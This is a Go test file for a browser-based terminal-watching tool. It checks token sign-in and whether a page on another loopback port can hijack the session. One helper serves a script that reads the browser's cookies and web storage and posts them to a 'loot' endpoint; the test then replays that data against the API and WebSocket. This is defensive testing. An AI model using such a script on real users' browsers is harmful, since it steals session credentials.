package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/coder/websocket"

	"github.com/ptyseam/ptyseam/cmd/ptyseam/internal/browsertest"
	"github.com/ptyseam/ptyseam/cmd/ptyseam/web"
	"github.com/ptyseam/ptyseam/internal/testenv"
)

// A person who has the token signs in by typing it into the sign-in form
// (the form's POST carries the page's own origin, which the server
// accepts); a wrong token is refused with 401's text.
func TestWatchSignInWithTheTokenInChromium(t *testing.T) {
	cs, link := watchServer(t)
	id := openBash(t, cs)
	viCmd := "vi " + t.TempDir() + "/w15.txt"
	if _, res := call(t, cs, "pty_open", map[string]any{"command": viCmd}); res.IsError {
		t.Fatal(resultText(res))
	}
	launched, res := call(t, cs, "bg_launch", map[string]any{"command": "sleep", "args": []any{"30"}})
	if res.IsError {
		t.Fatal(resultText(res))
	}
	jobID, _ := launched["id"].(string)
	base, _, _ := strings.Cut(link, "/watch/")
	ctx := browsertest.New(t)
	const input = `input[name=token]`
	body := func() string {
		text, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	if err := chromedp.Do(ctx,
		chromedp.Navigate(base+"/watch/login"),
		chromedp.WaitVisible(chromedp.CSS(input)),
		browsertest.InsertText(input, "wrong-token-0123456789abcdefghijklmnopq"),
		browsertest.Key(input, kb.Enter),
	); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.getElementById('error').textContent.includes('wrong token')`, chromedp.WithPollingInterval(50*time.Millisecond))); err != nil {
		t.Fatalf("a wrong token: the page shows %q (%v)", body(), err)
	}
	row := chromedp.CSS(fmt.Sprintf(`tr.session[data-id=%q]`, id))
	if err := chromedp.Do(ctx,
		chromedp.Navigate(base+"/watch/login"),
		chromedp.WaitVisible(chromedp.CSS(input)),
		browsertest.InsertText(input, watchTestToken),
		browsertest.Key(input, kb.Enter),
	); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.WaitVisible(row)); err != nil {
		t.Fatalf("signed in with the token, the listing never showed %s: %v; the page shows %q", id, err, body())
	}
	// The listing shows each session's command and the id its model
	// knows (a job's job_ id).
	listing := func() string {
		text, err := chromedp.Run(ctx, chromedp.Evaluate[string](`Array.from(document.querySelectorAll('tr.session')).map(r => r.innerText).join('\n')`))
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	rows := listing()
	for deadline := time.Now().Add(testenv.HangBound); !strings.Contains(rows, jobID) || !strings.Contains(rows, viCmd); rows = listing() {
		if time.Now().After(deadline) {
			t.Fatalf("the listing does not show %q and %s:\n%s", viCmd, jobID, rows)
		}
		time.Sleep(100 * time.Millisecond)
	}
	// The browser's icon request is answered, not refused as unsigned.
	if st, err := chromedp.Run(ctx, chromedp.Evaluate[int](`fetch('/favicon.ico', {credentials: 'omit'}).then(r => r.status)`, chromedp.EvalAwaitPromise)); err != nil || st != 204 {
		t.Fatalf("/favicon.ico: %d %v", st, err)
	}
}

// loot is what a page on another loopback port received from the
// browser: the Cookie headers of its requests and whatever its script
// found in the browser's storage.
type loot struct {
	mu      sync.Mutex
	cookies []string
	storage []string
}

// otherPortServer serves, on another loopback port, a page whose script
// sends home everything the browser lets it read (as a dev server the
// model started could); it is under /watch/ so that a cookie with path
// /watch/ reaches it.
func otherPortServer(t *testing.T) (string, *loot) {
	t.Helper()
	l := &loot{}
	const page = `<!doctype html><title>other port</title><script>
		const vals = [document.cookie];
		for (const s of [sessionStorage, localStorage]) for (let i = 0; i < s.length; i++) vals.push(s.getItem(s.key(i)));
		fetch('/watch/loot', {method: 'POST', body: JSON.stringify(vals)}).then(() => { document.title = 'sent'; });
	</script>`
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		defer l.mu.Unlock()
		if c := r.Header.Get("Cookie"); c != "" {
			l.cookies = append(l.cookies, c)
		}
		if r.URL.Path == "/watch/loot" {
			var vals []string
			_ = json.NewDecoder(io.LimitReader(r.Body, 1<<20)).Decode(&vals)
			for _, v := range vals {
				if v != "" {
					l.storage = append(l.storage, v)
				}
			}
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, l
}

// TestWatchSignInStaysOnItsPort: browsers send a host's
// cookies to every port of it, so a page on another port of 127.0.0.1
// receives the watch page's cookie. Replaying everything that page
// receives (its Cookie headers, the storage its script can read) must
// list no session and open no terminal.
func TestWatchSignInStaysOnItsPort(t *testing.T) {
	cs, link := watchServer(t)
	base := strings.SplitN(link, "/watch/", 2)[0]
	id := openBash(t, cs)
	other, got := otherPortServer(t)

	ctx := browsertest.New(t)
	row := chromedp.CSS(fmt.Sprintf(`tr.session[data-id=%q]`, id))
	if err := chromedp.Do(ctx, chromedp.Navigate(link), chromedp.WaitVisible(row)); err != nil {
		t.Fatalf("%v\n%s", err, watchPageState(t, ctx))
	}
	// The same tab visits the other port, then comes back: it is still
	// signed in there.
	if err := chromedp.Do(ctx, chromedp.Navigate(other+"/watch/steal")); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.title === 'sent'`)); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(base+"/watch/"), chromedp.WaitVisible(row)); err != nil {
		t.Fatalf("the tab is no longer signed in after visiting another port: %v\n%s", err, watchPageState(t, ctx))
	}

	got.mu.Lock()
	cookies, storage := append([]string{""}, got.cookies...), append([]string{""}, got.storage...)
	got.mu.Unlock()
	t.Logf("the other port received Cookie headers %q and storage %q", cookies[1:], storage[1:])
	rctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	for _, cookie := range cookies {
		for _, key := range storage {
			req, _ := http.NewRequestWithContext(rctx, http.MethodGet, base+"/watch/api/sessions", nil)
			hdr := http.Header{}
			if cookie != "" {
				hdr.Set("Cookie", cookie)
			}
			if key != "" {
				hdr.Set(web.KeyHeader, key)
			}
			req.Header = hdr.Clone()
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized || strings.Contains(string(b), id) {
				t.Errorf("replaying Cookie %q and key %q listed sessions: %d %s", cookie, key, resp.StatusCode, b)
			}
			opts := &websocket.DialOptions{HTTPHeader: hdr}
			if key != "" {
				opts.Subprotocols = []string{web.Subprotocol, web.KeyProtocolPrefix + key}
			}
			conn, resp, err := websocket.Dial(rctx, "ws"+strings.TrimPrefix(base, "http")+"/watch/ws?id="+id, opts)
			if err == nil {
				conn.CloseNow()
				t.Errorf("replaying Cookie %q and key %q opened the terminal's WebSocket", cookie, key)
			} else if resp == nil || resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("replaying Cookie %q and key %q: the WebSocket was refused with %v, want 401", cookie, key, err)
			}
		}
	}
}
